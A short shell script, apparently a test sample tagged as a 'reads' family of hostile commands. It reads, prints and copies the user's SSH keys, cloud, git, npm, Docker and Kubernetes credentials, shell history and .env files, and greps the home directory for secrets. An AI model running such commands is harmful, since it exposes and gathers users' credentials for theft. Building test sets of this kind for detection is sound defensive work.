#!/bin/sh
# family: reads (the user's credentials and the project's .env)
for f in ~/.ssh/id_ed25519 ~/.aws/credentials ~/.netrc ~/.git-credentials ~/.config/gh/hosts.yml ~/.npmrc ~/.docker/config.json ~/.bash_history ~/.kube/config .env; do
  cat "$f" 2>&1
  cp "$f" "copy-$(basename "$f")" 2>/dev/null
done
grep -r SECRET ~ 2>/dev/null | head -20
git show HEAD:.env 2>&1
exit 0
